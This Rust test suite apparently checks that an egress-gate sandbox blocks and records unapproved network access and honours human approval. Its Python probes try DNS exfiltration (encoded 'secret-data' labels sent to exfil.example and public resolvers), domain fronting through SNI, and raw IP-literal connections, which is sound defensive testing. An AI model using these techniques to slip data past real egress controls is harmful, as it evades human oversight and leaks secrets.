//! Transparent capture with the real gate: clients that read no proxy settings (Python,
//! Node, Java, Perl) reach approved hosts, leave a refusal on the turn for the rest, and work
//! once a person approved through the real approval flow; HTTPS with the SNI checked; IP
//! literals recorded; AAAA-preferring clients; DNS that reaches nothing outside. Longer than
//! most suites because each runtime's client is a row written in its own language.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::process::Command;

use serde_json::json;
use support::capture::*;
use support::*;

/// The whole loop for one client (`argv` takes the URL last): approved host → downloaded;
/// unapproved host → refused and recorded; approved through the approval tool, the
/// interrupt and a resume; the same command then works.
async fn closes_the_approval_loop(client: &str, argv: &[String]) {
    let o = origin().await;
    let port = o.addr.port();
    let asked = format!("{client}.files.example.com");
    let g = gate_for(&[APPROVED, &asked], &[port], &[]);
    let api = g.api();
    api.admin_site(APPROVED).await;
    let turn = api.turn(&format!("u-{client}"), "c1", &[]).await;
    let proxy_url = g.proxy_url(&turn);
    let with_url = |url: String| {
        let mut argv = argv.to_vec();
        argv.push(url);
        argv
    };

    let got = sandbox(
        &proxy_url,
        &[],
        &with_url(format!("http://{APPROVED}:{port}/data.csv")),
    )
    .await;
    assert_eq!(got.status.code(), Some(0), "{client}: {}", explain(&got));
    assert_eq!(out(&got), "origin says hi", "{client}");

    let refused_url = format!("http://{asked}:{port}/data.csv");
    let got = sandbox(&proxy_url, &[], &with_url(refused_url.clone())).await;
    assert_ne!(got.status.code(), Some(0), "{client}: {}", explain(&got));
    assert!(!out(&got).contains("origin says hi"), "{client}");
    // The client read the proxy's 403 (its status line or its text), not a reset.
    let stderr = String::from_utf8_lossy(&got.stderr);
    assert!(
        stderr.contains("403") && stderr.contains("egressgate"),
        "{client}: {}",
        explain(&got)
    );
    // The refusal was on the record before the client saw its 403.
    let rec = api.refusals(&turn).await;
    let rows = rec["refusals"].as_array().unwrap();
    assert_eq!(rows.len(), 1, "{client}: {rec}");
    assert_eq!(rows[0]["host"], asked.as_str(), "{client}: {rec}");
    assert_eq!(rows[0]["reason"], "not_approved", "{client}: {rec}");
    assert_eq!(
        o.requests().len(),
        1,
        "{client}: the refused host reached the origin"
    );

    let (id, secret) = ask(&api, &turn, &[]).await;
    let card = api
        .get(&format!("/v1/interrupts/{id}/outcome"), RUNTIME)
        .await
        .json();
    assert_eq!(card["card"]["sites"], json!([asked]), "{client}: {card}");
    let r = resume(&api, &id, &secret, "resolved", json!({"approved": true})).await;
    assert_eq!(r.status, 200, "{client}: {}", r.text());
    assert_eq!(r.json()["decision"]["outcome"], "approved", "{client}");

    let got = sandbox(&proxy_url, &[], &with_url(refused_url)).await;
    assert_eq!(got.status.code(), Some(0), "{client}: {}", explain(&got));
    assert_eq!(out(&got), "origin says hi", "{client}");
    assert_eq!(o.requests().len(), 2, "{client}");
}

/// One test per client script shipped with the tests: the whole loop, run by its tool.
macro_rules! shipped_clients {
    ($($name:ident: $client:literal, $tool:literal, $script:literal;)+) => {$(
        #[tokio::test]
        async fn $name() {
            shipped_client_closes_the_loop($client, $tool, $script).await;
        }
    )+};
}

shipped_clients! {
    python_urllib_without_proxy_settings_closes_the_loop: "python", "python3", "get.py";
    node_fetch_which_reads_no_proxy_variables_closes_the_loop: "node", "node", "get.mjs";
    java_httpclient_without_a_proxy_closes_the_loop: "java", "java", "Get.java";
    perl_raw_socket_closes_the_loop: "perl", "perl", "get.pl";
}

/// The whole loop for a client script shipped with the tests, run by `tool` (skipped where
/// `tool` is missing, outside CI: see [`have`]).
async fn shipped_client_closes_the_loop(client: &str, tool: &str, script: &str) {
    if have(tool) {
        let (_dir, script) = client_script(script);
        let mut argv = vec![tool.to_owned()];
        if tool == "java" {
            // Two JVMs as `nobody` in two sandboxes share /tmp/hsperfdata_nobody and may have
            // the same pid in their namespaces: the loser prints a warning on stdout.
            argv.push("-XX:-UsePerfData".into());
        }
        argv.push(script);
        closes_the_approval_loop(client, &argv).await;
    }
}

/// Python over HTTPS, trusting the test CA: the proxy sees the TLS ClientHello, checks its
/// SNI against the name the capture asked for, and refuses (and records) a mismatch.
#[tokio::test]
async fn https_through_capture_works_and_a_mismatched_sni_is_refused_and_recorded() {
    if !have("python3") {
        return;
    }
    const SECURE: &str = "secure.example.com";
    let pki = pki(&[SECURE, APPROVED]);
    let o = tls_origin(&pki).await;
    let port = o.addr.port();
    let g = gate_for(&[SECURE, APPROVED], &[port], &[]);
    let api = g.api();
    api.admin_site(SECURE).await;
    api.admin_site(APPROVED).await;
    let turn = api.turn("u-tls", "c1", &[]).await;
    // The CA for the command to read; the proxy URL for the launcher only.
    let public = readable_dir();
    let ca = public.path().join("ca.der");
    std::fs::write(&ca, pki.ca_der.as_ref()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let url_file = dir.path().join("proxy-url");
    std::fs::write(
        &url_file,
        format!("http://{}@{}\n", turn.credential, g.proxy()),
    )
    .unwrap();
    // Connect to one name, say another in the SNI (domain fronting), both approved.
    let script = format!(
        r#"
import socket, ssl, sys, urllib.request
ctx = ssl.create_default_context(cadata=open("{ca}", "rb").read())
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{}}), urllib.request.HTTPSHandler(context=ctx))
print(opener.open("https://{SECURE}:{port}/", timeout=20).read().decode())
{fronted}"#,
        ca = ca.display(),
        fronted = fronting_probe(SECURE, port, APPROVED)
    );
    let flags = ["--proxy-url-file", url_file.to_str().unwrap()];
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_egressgate"));
    cmd.args(["sandbox", "run"])
        .args(flags)
        .args(["--", "python3", "-c", &script])
        .env_remove("EGRESSGATE_PROXY_URL")
        .current_dir("/");
    let got = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    assert_eq!(got.status.code(), Some(0), "{}", explain(&got));
    assert_eq!(
        out(&got),
        "origin says hi\nfronted: refused\n",
        "{}",
        explain(&got)
    );
    let row = wait_for_refusal(&api, &turn, "sni_mismatch", 5).await;
    let Some(row) = row else {
        panic!("no sni_mismatch: {}", api.refusals(&turn).await);
    };
    assert_eq!(row["host"], SECURE);
    assert_eq!(
        o.requests().len(),
        1,
        "the fronted handshake reached the origin"
    );
}

/// An address the script picked itself (not from the sandbox's resolver) is refused as an IP
/// literal and recorded with the literal as its host.
#[tokio::test]
async fn ip_literals_are_refused_and_recorded() {
    if !have("python3") {
        return;
    }
    let g = gate_for(&[], &[80], &[]);
    let api = g.api();
    let turn = api.turn("u-literal", "c1", &[]).await;
    let script = r#"
import socket
for host in ("203.0.113.7", "2001:db8::7"):
    try:
        s = socket.create_connection((host, 80), timeout=20)
        print(host, "eof" if s.recv(1) == b"" else "data")
    except ConnectionResetError:
        print(host, "reset")
"#;
    let proxy_url = g.proxy_url(&turn);
    let got = sandbox(
        &proxy_url,
        &[],
        &["python3".into(), "-c".into(), script.into()],
    )
    .await;
    assert_eq!(
        out(&got),
        "203.0.113.7 reset\n2001:db8::7 reset\n",
        "{}",
        explain(&got)
    );
    let rec = api.refusals(&turn).await;
    let rows = rec["refusals"].as_array().unwrap();
    assert_eq!(rows.len(), 2, "{rec}");
    assert!(rows.iter().all(|r| r["reason"] == "ip_literal"), "{rec}");
    assert!(rows.iter().any(|r| r["host"] == "203.0.113.7"), "{rec}");
    assert!(
        rows.iter()
            .any(|r| r["host"].as_str().unwrap_or("").contains("2001:db8::7")),
        "{rec}"
    );
}

/// A client that asks for IPv6 only gets the name's AAAA from the pool and is carried over
/// the IPv6 capture listener.
#[tokio::test]
async fn a_client_that_prefers_aaaa_answers_works() {
    let Some((o, g)) = capture_bench("python3", &[APPROVED]).await else {
        return;
    };
    let port = o.port();
    let api = g.api();
    api.admin_site(APPROVED).await;
    let turn = api.turn("u-v6", "c1", &[]).await;
    let script = format!(
        r#"
import socket
family, kind, proto, _, addr = socket.getaddrinfo("{APPROVED}", {port}, socket.AF_INET6, socket.SOCK_STREAM)[0]
s = socket.socket(family, kind, proto)
s.settimeout(20)
s.connect(addr)
s.sendall(b"GET /v6 HTTP/1.1\r\nHost: {APPROVED}\r\n\r\n")
data = b""
while not data.endswith(b"origin says hi"):
    chunk = s.recv(4096)
    if not chunk:
        break
    data += chunk
print(addr[0], data.split(b"\r\n\r\n", 1)[-1].decode())
"#
    );
    let proxy_url = g.proxy_url(&turn);
    let got = sandbox(&proxy_url, &[], &["python3".into(), "-c".into(), script]).await;
    assert_eq!(got.status.code(), Some(0), "{}", explain(&got));
    assert_eq!(out(&got), "2001:2::2 origin says hi\n", "{}", explain(&got));
    assert!(
        o.requests()[0].starts_with("GET /v6 "),
        "{:?}",
        o.requests()
    );
}

/// A TXT query, a query sent to an outside server's address, a lookup whose label carries
/// data, and a query to the gate's own DNS server's port: all answered (or dropped) inside
/// the sandbox. The DNS server the gate itself uses sees nothing, and neither does the proxy.
#[tokio::test]
async fn dns_from_the_sandbox_reaches_nothing_outside() {
    if !have("python3") {
        return;
    }
    let upstream = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    upstream.set_nonblocking(true).unwrap();
    let upstream_addr = upstream.local_addr().unwrap();
    let g = gate_for(&[], &[], &["--dns-server", &upstream_addr.to_string()]);
    let api = g.api();
    let turn = api.turn("u-dns", "c1", &[]).await;
    let script = format!(
        r#"
import socket, struct
def query(name, qtype, server):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    q += struct.pack(">HH", qtype, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(3)
    u.connect(server)
    u.send(q)
    try:
        r = u.recv(4096)
    except OSError as e:
        return type(e).__name__
    flags, _, answers = struct.unpack(">HHH", r[2:8])
    tail = socket.inet_ntoa(r[-4:]) if qtype == 1 and answers else ""
    return "rcode=%d answers=%d %s" % (flags & 0xF, answers, tail)
print("txt", query("c2VjcmV0LWRhdGE.exfil.example", 16, ("127.0.0.1", 53)))
print("outside", query("c2VjcmV0LWRhdGE.exfil.example", 1, ("8.8.8.8", 53)))
print("upstream-port", query("leak.example", 1, ("127.0.0.1", {upstream_port})))
print("lookup", socket.getaddrinfo("bWFueS1zZWNyZXRz.exfil.example", 80, socket.AF_INET)[0][4][0])
t = socket.create_connection(("8.8.4.4", 53), timeout=5)
q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x04over\x03tcp\x07example\x00" + struct.pack(">HH", 16, 1)
t.sendall(struct.pack(">H", len(q)) + q)
r = b""
while len(r) < 2 or len(r) < 2 + struct.unpack(">H", r[:2])[0]:
    chunk = t.recv(4096)
    if not chunk:
        break
    r += chunk
print("tcp", "rcode=%d answers=%d" % (struct.unpack(">H", r[4:6])[0] & 0xF, struct.unpack(">H", r[8:10])[0]))
"#,
        upstream_port = upstream_addr.port()
    );
    let proxy_url = g.proxy_url(&turn);
    let got = sandbox(&proxy_url, &[], &["python3".into(), "-c".into(), script]).await;
    assert_eq!(got.status.code(), Some(0), "{}", explain(&got));
    assert_eq!(
        out(&got),
        "txt rcode=0 answers=0 \n\
         outside rcode=0 answers=1 198.18.0.2\n\
         upstream-port ConnectionRefusedError\n\
         lookup 198.18.0.3\n\
         tcp rcode=0 answers=0\n",
        "{}",
        explain(&got)
    );
    let mut buf = [0u8; 512];
    let seen = upstream.recv_from(&mut buf);
    assert!(
        matches!(&seen, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the gate's DNS server got a packet: {seen:?}"
    );
    assert_eq!(api.refusals(&turn).await["refusals"], json!([]));
}
